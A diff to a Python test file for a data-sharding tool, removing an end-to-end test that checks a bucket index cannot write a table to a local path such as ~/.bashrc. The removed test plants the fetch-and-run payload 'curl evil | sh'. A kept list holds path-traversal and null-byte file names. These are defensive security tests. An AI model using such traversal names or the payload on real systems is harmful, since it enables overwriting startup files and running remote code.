@@ -18,10 +18,7 @@ from must.data.loading.cache import ShardCache
 from must.data.loading.reader import open_reader
 from must.data.shards.chunk import npy
 from must.data.shards.history import History
-from tests import zoo
-from tests.data.shards.test_shard import run, sharded
-from tests.data.shards.test_shard_gcs import upload
-from tests.stores import Server, plant
+from tests.data.shards.test_shard import sharded
 
 NAMES = ["/{home}/.bashrc", "../home/.bashrc", "a/../../home/.bashrc", "train-000000.tar/../../x", "", "x\0.npy"]
 
@@ -111,24 +108,6 @@ def test_what_is_no_index_at_all_is_refused_in_one_line(data: bytes) -> None:
     with pytest.raises(ValueError, match=r"^index\.json (is damaged|has version)") as error:
         parse_index(data, "index.json")
     assert str(error.value).isprintable()
-
-
-def test_a_table_of_a_bucket_cannot_be_written_elsewhere(
-    bucket_server: Server, made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Through `must shard --append` from end to end: the name was joined to a local folder, and the object exists."""
-    home = tmp_path / "home"
-    home.mkdir()
-    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
-    upload(made, bucket_server.uri)
-    evil = f"{home}/.bashrc"
-    plant(bucket_server.uri + "/" + evil, b"curl evil | sh\n")
-    data = edited(bucket_server.uri, lambda c: c.update(tables=[{"name": evil, "sha256": "0" * 64}]))
-    storage.write_bytes(bucket_server.uri + "/index.json", data)
-    zoo.fill(tmp_path / "new", 3, start=100)
-    with pytest.raises(ValueError, match="not a valid table name"):
-        run(tmp_path / "new", bucket_server.uri, append=True)
-    assert not any(home.iterdir()) and not list(tmp_path.glob("**/.bashrc"))
 
 
 def test_a_link_in_the_cache_is_not_followed(made: Path, tmp_path: Path) -> None:
